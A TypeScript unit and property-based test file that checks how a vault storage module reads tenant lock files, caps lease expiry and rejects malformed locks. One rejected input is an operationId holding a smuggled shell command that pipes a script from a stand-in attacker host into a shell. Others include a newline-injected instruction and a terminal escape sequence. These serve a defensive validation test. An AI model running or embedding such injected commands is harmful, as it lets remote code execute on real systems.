import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LONGEST_LEASE_SECONDS, readLock } from '../../../functions/vault/storage/lock-reading.ts';

const WRITTEN = new Date('2026-01-31T12:00:00Z');
const after = (seconds: number) => new Date(WRITTEN.getTime() + seconds * 1000).toISOString();
const LOCK = {
  tenant: 'acme',
  operationId: '0d990263-018e-4e65-a703-eff731de951e',
  heldSince: after(0),
  expiresAt: after(LONGEST_LEASE_SECONDS),
};
const KEY = 'locks/acme.json';
const read = (document: unknown, isReadable = true) =>
  readLock('acme', KEY, { document, writtenAt: WRITTEN, isReadable });

it('is believed for its lease', () => {
  expect(read(LOCK)).toEqual({ lock: LOCK, passedOver: null });
});

it('is believed of a holder whose clock is a little ahead of that of S3, for one lease', () => {
  expect(read({ ...LOCK, expiresAt: after(LONGEST_LEASE_SECONDS + 30) })).toEqual({
    lock: { ...LOCK, expiresAt: after(LONGEST_LEASE_SECONDS + 1) },
    passedOver: null,
  });
});

describe('a lock that claims more than a lease is named, and ends with one:', () => {
  it.each([
    '2026-01-31T12:10:00Z',
    '2026-02-01T00:00:00Z',
    '2099-01-01T00:00:00Z',
    '9999-12-31T23:59:59.999Z',
  ])('until %s', (expiresAt) => {
    expect(read({ ...LOCK, expiresAt })).toEqual({
      lock: { ...LOCK, expiresAt: after(LONGEST_LEASE_SECONDS + 1) },
      passedOver: KEY,
    });
  });
});

describe('what is no lock is named, and holds nobody up:', () => {
  it.each<[string, unknown]>([
    ['no JSON', undefined],
    ['nothing', null],
    ['a text', 'locked'],
    ['a list', [LOCK]],
    ['no members', {}],
    ['a lock of another tenant', { ...LOCK, tenant: 'globex' }],
    ['no end', { ...LOCK, expiresAt: undefined }],
    ['an end that is no time', { ...LOCK, expiresAt: 'never' }],
    ['an end that is a number', { ...LOCK, expiresAt: 4102444800000 }],
    ['an end in a far year', { ...LOCK, expiresAt: '+275760-09-13T00:00:00.000Z' }],
    ['no holder', { ...LOCK, operationId: '' }],
    ['a holder that is a command', { ...LOCK, operationId: 'x; curl evil.example | sh' }],
    ['a holder of several lines', { ...LOCK, operationId: 'x\nnext: tenant-backup restore acme' }],
    ['a beginning that is no time', { ...LOCK, heldSince: '\u001b[2J' }],
  ])('%s', (_, document) => {
    expect(read(document)).toEqual({ lock: null, passedOver: KEY });
  });
});

it('that S3 does not return may be held, is named, and ends one lease after it was written', () => {
  expect(read(undefined, false)).toEqual({
    lock: expect.objectContaining({ tenant: 'acme', expiresAt: after(LONGEST_LEASE_SECONDS + 1) }),
    passedOver: KEY,
  });
});

const LATEST = Date.parse(after(LONGEST_LEASE_SECONDS + 1));

it('never ends later than a lease after it was written, whatever it says, and never throws', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.jsonValue(),
        fc.record({ ...LOCK_ARBITRARIES }, { requiredKeys: [] }),
        fc.date({ noInvalidDate: true }).map((expiresAt) => ({ ...LOCK, expiresAt: expiresAt.toJSON() })),
      ),
      (document) => {
        const { lock, passedOver } = read(document);
        if (lock === null) expect(passedOver).toBe(KEY);
        else expect(Date.parse(lock.expiresAt)).toBeLessThanOrEqual(LATEST);
      },
    ),
  );
});

const LOCK_ARBITRARIES = {
  tenant: fc.constantFrom('acme', 'globex'),
  operationId: fc.string(),
  heldSince: fc.oneof(fc.constant(LOCK.heldSince), fc.string()),
  expiresAt: fc.oneof(fc.constant(LOCK.expiresAt), fc.string()),
};
